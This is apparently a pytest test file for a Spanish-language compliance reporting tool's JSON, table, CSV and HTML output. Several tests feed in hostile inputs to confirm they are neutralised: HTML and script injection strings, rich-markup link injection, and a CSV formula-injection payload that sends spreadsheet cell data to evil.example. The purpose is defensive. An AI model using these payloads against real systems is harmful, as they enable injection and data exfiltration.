"""Every report renders as CLI.md promises: JSON keys, Spanish local time in tables, 80 columns,
CSV with a header, and a self-contained, escaped HTML file."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, datetime

import pytest

from events.domain import Policy
from projections.names import PersonNames
from projections.render import render
from projections.reports import REPORT_KINDS, Report, ReportFilter, Scope, load_report
from tests.unit.projections.scenario import AS_OF, USERNAMES, Scenario, build

# CLI.md, "Machine-readable output": each item has at least these keys.
CONTRACT = {
    "rotaciones": {"cuenta", "distrito", "motivo", "abierta", "vence", "cerrada", "estado"},
    "exposicion": {"cuenta", "version", "personas"},
    "incidentes": {
        "incidente",
        "cuenta",
        "tipo",
        "reportado",
        "notificado",
        "contenido",
        "cerrado",
        "notificado_a_tiempo",
    },
    "cambios": {"solicitud", "cuenta", "campo", "via_oficial", "estado"},
    "cumplimiento": {
        "distrito",
        "titular",
        "administrador",
        "cuentas",
        "obligaciones_abiertas",
        "obligaciones_vencidas",
        "incidentes_abiertos",
        "cambios_abiertos",
        "veredicto",
    },
    "lecturas": {"fecha", "cuenta", "persona", "hallazgos"},
}
ISO_WITH_OFFSET = re.compile(r"^\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d(\.\d+)?[+-]\d\d:\d\d$")


@pytest.fixture(scope="module")
def scenario(tmp_path_factory: pytest.TempPathFactory) -> Scenario:
    return build(tmp_path_factory.mktemp("scenario"))


def built(s: Scenario, kind: str) -> Report:
    return load_report(
        kind,
        Scope("coadministrador"),
        ReportFilter(),
        database=s.db,
        names=PersonNames(USERNAMES),
        now=AS_OF,
    )


@pytest.mark.parametrize("kind", REPORT_KINDS)
def test_json_items_carry_the_contract_keys(scenario: Scenario, kind: str) -> None:
    """A top-level array whose items have CLI.md's keys; instants ISO 8601 with an offset."""
    items = json.loads(render(built(scenario, kind), "json"))
    assert isinstance(items, list)
    assert items
    for item in items:
        assert CONTRACT[kind] <= set(item)
    instants = [v for item in items for v in item.values() if isinstance(v, str) and "T" in v]
    instants = [v for v in instants if v[:4].isdigit()]
    assert instants
    assert all(ISO_WITH_OFFSET.match(v) and v.endswith("-06:00") for v in instants)


@pytest.mark.parametrize("kind", REPORT_KINDS)
def test_tabla_fits_80_columns_in_mexico_city_time(scenario: Scenario, kind: str) -> None:
    """The human table never exceeds 80 columns and shows local Spanish dates."""
    text = render(built(scenario, kind), "tabla")
    assert max(len(line) for line in text.splitlines()) <= 80
    assert "07/03/2025 10:00" in text  # the as-of instant, in Mexico City time
    assert "2025-03-07T16:00" not in text


def test_compliance_table_states_the_verdicts(scenario: Scenario) -> None:
    """The table names the failing district's reason and the institute's line."""
    text = render(built(scenario, "cumplimiento"), "tabla")
    assert "NO CUMPLE" in text
    assert "DD05: no cumple — 1 obligación de cambio de contraseña vencida (6.X)." in text
    assert "Instituto: no cumple" in text


@pytest.mark.parametrize("kind", REPORT_KINDS)
def test_csv_has_a_header_and_one_line_per_item(scenario: Scenario, kind: str) -> None:
    """CSV: the JSON keys as header, one record per item, lists flattened."""
    r = built(scenario, kind)
    records = list(csv.DictReader(io.StringIO(render(r, "csv"))))
    assert len(records) == len(r.rows)
    assert CONTRACT[kind] <= set(records[0])


def test_html_is_self_contained_with_charts(scenario: Scenario) -> None:
    """The HTML has its style and SVG charts inline and refers to nothing outside itself."""
    page = render(built(scenario, "cumplimiento"), "html")
    assert page.startswith("<!DOCTYPE html>")
    assert '<html lang="es">' in page
    for forbidden in ("http://", "https://", "<script", " src=", "url(", "<link"):
        assert forbidden not in page
    for chart in ("grafica-tiempo-rotacion", "grafica-a-tiempo", "grafica-incidentes"):
        assert f'id="{chart}"' in page
    assert "@media print" in page
    assert "7 de marzo de 2025, 10:00" in page


def test_html_escapes_ledger_text() -> None:
    """Free text from the ledger cannot inject markup into the HTML report."""
    row = {
        "solicitud": "abcdef0123",
        "cuenta": "DD05-x",
        "distrito": "DD05",
        "campo": "otro",
        "via_oficial": 'oficio <img src="x">',
        "estado": "solicitada",
        "detalle": "<script>alert(1)</script>",
        "solicitada": datetime(2025, 3, 3, tzinfo=UTC),
        "solicitada_por": "<b>ana</b>",
        "decidida": None,
        "decidida_por": None,
        "aplicada": None,
    }
    r = Report("cambios", "Cambios", datetime(2025, 3, 3, tzinfo=UTC), 1, None, [row])
    page = render(r, "html", Policy())
    assert "<img" not in page
    assert "<b>ana" not in page
    assert "&lt;b&gt;ana&lt;/b&gt;" in page


@pytest.mark.parametrize("fmt", ["tabla", "html", "csv", "json"])
def test_every_read_finding_renders_in_spanish(scenario: Scenario, fmt: str) -> None:
    """A read carrying every finding ``reporte lecturas`` can give (an unrecorded read from
    OpenBao's audit log included) renders in every format, each finding by its Spanish label
    (tabla, HTML) or its key (JSON, CSV: for scripts); none is unknown to a renderer."""
    from dataclasses import replace

    from projections.reports import READ_FINDINGS

    report = built(scenario, "lecturas")
    assert report.rows
    row = {**report.rows[0], "hallazgos": list(READ_FINDINGS)}
    text = render(replace(report, rows=[row]), fmt, Policy())
    for key, label in READ_FINDINGS.items():
        if fmt in ("json", "csv"):
            assert key in text
        elif fmt != "tabla":  # the table wraps its cells: checked for its first words
            assert label in text.replace("\n", " ") or escape_html(label) in text
        else:
            assert label.split()[0] in text
    if fmt == "html":
        assert "lectura sin registro en la bitácora" in text


def escape_html(text: str) -> str:
    import html

    return html.escape(text)


HOSTILE = "[/b][link=https://evil.example]x[/link][bold red]NO CUMPLE[/]"


def _hostile(value: object) -> object:
    """``value`` with rich markup in front of every text in it (lists and dicts too)."""
    if isinstance(value, str):
        return HOSTILE + value
    if isinstance(value, list):
        return [_hostile(v) for v in value]
    if isinstance(value, dict):
        return {k: _hostile(v) for k, v in value.items()}
    return value


@pytest.mark.parametrize("kind", REPORT_KINDS)
def test_tabla_shows_free_text_as_it_is_never_as_markup(scenario: Scenario, kind: str) -> None:
    """Free text from the ledger (an oficio number, a device id, a summary) reaches the table
    as written: read as rich markup, an unbalanced ``[/b]`` would make every ``tabla`` of the
    report fail (rich raises, and the event is in the ledger for good), and ``[link=…]`` would
    plant a link in evidence. Every text of every row carries both here."""
    from dataclasses import replace

    report = built(scenario, kind)
    assert report.rows
    rows = [{k: _hostile(v) for k, v in row.items()} for row in report.rows]
    title = HOSTILE + report.title
    text = render(replace(report, rows=rows, title=title), "tabla", Policy())
    assert text.startswith(HOSTILE)  # the title, as written
    assert text.count("[/b]") > len(rows)  # the cells' texts, as written (cut to fit)
    # Nothing was read as markup: every bracket is still there, none became a style or link.
    plain = render(report, "tabla", Policy())
    assert text.count("[") >= plain.count("[") + len(rows)


def test_csv_cells_never_start_a_spreadsheet_formula(scenario: Scenario) -> None:
    """An oficio number written as a formula (``=HYPERLINK(…)``) would run in the reviewer's
    spreadsheet when the CSV is opened: such a cell starts with an apostrophe instead (shown as
    written); numbers, dates and ordinary text are unchanged."""
    from dataclasses import replace

    report = built(scenario, "cambios")
    formulas = ['=HYPERLINK("https://evil.example/?"&A1,"ver")', "+1+1", "-2+3", "@SUM(A1)"]
    rows = [{**report.rows[0], "via_oficial": f, "detalle": f} for f in formulas]
    parsed = list(csv.DictReader(io.StringIO(render(replace(report, rows=rows), "csv"))))
    assert [r["via_oficial"] for r in parsed] == ["'" + f for f in formulas]
    assert [r["detalle"] for r in parsed] == ["'" + f for f in formulas]
    plain = list(csv.DictReader(io.StringIO(render(report, "csv"))))
    assert plain[0]["via_oficial"] == report.rows[0]["via_oficial"]
    assert plain[0]["solicitada"][:4].isdigit()
